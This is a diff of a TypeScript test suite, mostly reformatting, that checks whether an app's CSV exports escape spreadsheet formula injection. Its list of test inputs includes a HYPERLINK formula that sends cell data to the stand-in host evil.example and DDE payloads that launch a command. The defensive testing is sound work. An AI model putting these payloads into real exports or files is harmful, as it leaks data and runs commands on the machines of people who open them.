@@ -9,7 +9,15 @@ import type { TestApp } from '../support/test-app';
 import { withWorkspace } from '../support/fixtures';
 
 /** Text a spreadsheet would run as a formula, each spelling OWASP lists (and one safe text). */
-const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', 'plain text'];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  'plain text',
+];
 
 const sql = `SELECT ord, label, amount, ratio, -9007199254740993::BIGINT AS big, -12.345::DECIMAL(38,3) AS exact, '-Infinity'::DOUBLE AS inf, label AS "=cmd()", 1 AS "-x"
   FROM cells.t ORDER BY ord`;
@@ -52,7 +60,11 @@ describe('CSV answers and formula injection', () => {
   });
 
   test('POST /execute as CSV, with an API key', async () => {
-    const response = await t.request('/api/v1/execute', { method: 'POST', json: { sql, format: 'csv', workspace_id: workspaceId }, headers: { 'x-api-key': apiKey } });
+    const response = await t.request('/api/v1/execute', {
+      method: 'POST',
+      json: { sql, format: 'csv', workspace_id: workspaceId },
+      headers: { 'x-api-key': apiKey },
+    });
     expect(response.status).toBe(200);
     expectNeutral(await response.text());
   });
@@ -66,13 +78,19 @@ describe('CSV answers and formula injection', () => {
 
   test('a public chart’s data as CSV, and a public page’s', async () => {
     const api = `/api/v1/workspaces/${workspaceId}`;
-    const created = await t.request(`${api}/charts`, { method: 'POST', json: { name: 'cells', title: 'Cells', sql, chart_type: 'table', config: {} }, token: user.accessToken });
+    const created = await t.request(`${api}/charts`, {
+      method: 'POST',
+      json: { name: 'cells', title: 'Cells', sql, chart_type: 'table', config: {} },
+      token: user.accessToken,
+    });
     expect(created.status).toBe(201);
     const { token } = await bodyOf(await t.request(`${api}/charts/cells/publish`, { method: 'POST', json: {}, token: user.accessToken }));
     const chart = await t.request(`/c/${token}/data?format=csv`);
     expect(chart.status).toBe(200);
     expectNeutral(await chart.text());
-    expect((await t.request(`${api}/pages`, { method: 'POST', json: { name: 'cells', title: 'Cells', charts: ['cells'] }, token: user.accessToken })).status).toBe(201);
+    expect(
+      (await t.request(`${api}/pages`, { method: 'POST', json: { name: 'cells', title: 'Cells', charts: ['cells'] }, token: user.accessToken })).status,
+    ).toBe(201);
     const page = await bodyOf(await t.request(`${api}/pages/cells/publish`, { method: 'POST', json: {}, token: user.accessToken }));
     const pageData = await t.request(`/p/${page.token}/charts/0/data?format=csv`);
     expect(pageData.status).toBe(200);
@@ -81,7 +99,11 @@ describe('CSV answers and formula injection', () => {
 
   test('the usage export: no text cell a spreadsheet would run', async () => {
     // A query of this test's own, whatever ran before it: the export has a record to show.
-    const ran = await t.request('/api/v1/execute', { method: 'POST', json: { sql, format: 'csv', workspace_id: workspaceId }, headers: { 'x-api-key': apiKey } });
+    const ran = await t.request('/api/v1/execute', {
+      method: 'POST',
+      json: { sql, format: 'csv', workspace_id: workspaceId },
+      headers: { 'x-api-key': apiKey },
+    });
     expect(ran.status).toBe(200);
     await t.services.usageRecorded();
     const response = await t.request(`/api/v1/workspaces/${workspaceId}/usage/export`, { token: user.accessToken });
@@ -101,6 +123,14 @@ describe('CSV answers and formula injection', () => {
       `"'\r=1+1"`,
       'plain text',
     ]);
-    expect([csvValue(-5), csvValue(-0.25), csvValue('-12.5', true), csvValue('-12.5'), csvValue(null), csvValue(['=x']), csvValue(true)]).toEqual(['-5', '-0.25', '-12.5', "'-12.5", '', '"[""=x""]"', 'true']);
+    expect([csvValue(-5), csvValue(-0.25), csvValue('-12.5', true), csvValue('-12.5'), csvValue(null), csvValue(['=x']), csvValue(true)]).toEqual([
+      '-5',
+      '-0.25',
+      '-12.5',
+      "'-12.5",
+      '',
+      '"[""=x""]"',
+      'true',
+    ]);
   });
 });
